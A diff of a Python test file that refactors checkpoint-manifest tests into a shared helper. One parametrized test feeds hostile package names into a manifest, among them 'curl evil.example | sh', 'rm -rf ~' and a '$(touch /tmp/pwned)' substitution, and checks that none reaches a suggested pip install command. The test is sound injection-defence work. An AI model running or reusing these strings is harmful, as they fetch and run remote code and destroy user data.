@@ -189,28 +189,28 @@ def test_two_rank_save_records_every_rank(tmp_path: Path) -> None:
     assert report.ok and report.checked["checksum_records"] == sum(len(f.items) for f in manifest.files.values())
 
 
-@pytest.mark.parametrize(
-    "distribution", ["x; curl evil.example | sh", "dcp-storage-zstd==0.1 && rm -rf ~", "$(touch /tmp/pwned)", "a b"]
-)
-def test_a_manifest_cannot_make_an_install_hint_a_command(ckpt: Path, tmp_path: Path, distribution: str) -> None:
-    """Install hints quote names read from the checkpoint: a hostile one must never reach a suggested command."""
+def _unknown_format_copy(ckpt: Path, tmp_path: Path, distribution: str) -> Path:
+    """A copy of ``ckpt`` whose manifest names format ``tiled/3`` from ``distribution`` (no such plugin)."""
     other = tmp_path / "other"
     shutil.copytree(ckpt, other)
     doc = json.loads((other / MANIFEST_FILE).read_bytes())
     doc.update(format="tiled/3", format_distribution=distribution)
     (other / MANIFEST_FILE).write_text(json.dumps(doc))
+    return other
+
+
+@pytest.mark.parametrize(
+    "distribution", ["x; curl evil.example | sh", "dcp-storage-zstd==0.1 && rm -rf ~", "$(touch /tmp/pwned)", "a b"]
+)
+def test_a_manifest_cannot_make_an_install_hint_a_command(ckpt: Path, tmp_path: Path, distribution: str) -> None:
+    """Install hints quote names read from the checkpoint: a hostile one must never reach a suggested command."""
     with pytest.raises(UnknownFormatError) as info:
-        open_reader(other)
+        open_reader(_unknown_format_copy(ckpt, tmp_path, distribution))
     message = str(info.value)
     assert "pip install" not in message and distribution not in message, message
     assert "names no valid distribution: install nothing it names" in message, message
 
 
 def test_a_valid_install_hint_says_where_the_name_came_from(ckpt: Path, tmp_path: Path) -> None:
-    other = tmp_path / "other"
-    shutil.copytree(ckpt, other)
-    doc = json.loads((other / MANIFEST_FILE).read_bytes())
-    doc.update(format="tiled/3", format_distribution="dcp-storage-tiled")
-    (other / MANIFEST_FILE).write_text(json.dumps(doc))
     with pytest.raises(UnknownFormatError, match=r"pip install dcp-storage-tiled \(a name read from the checkpoint"):
-        open_reader(other)
+        open_reader(_unknown_format_copy(ckpt, tmp_path, "dcp-storage-tiled"))
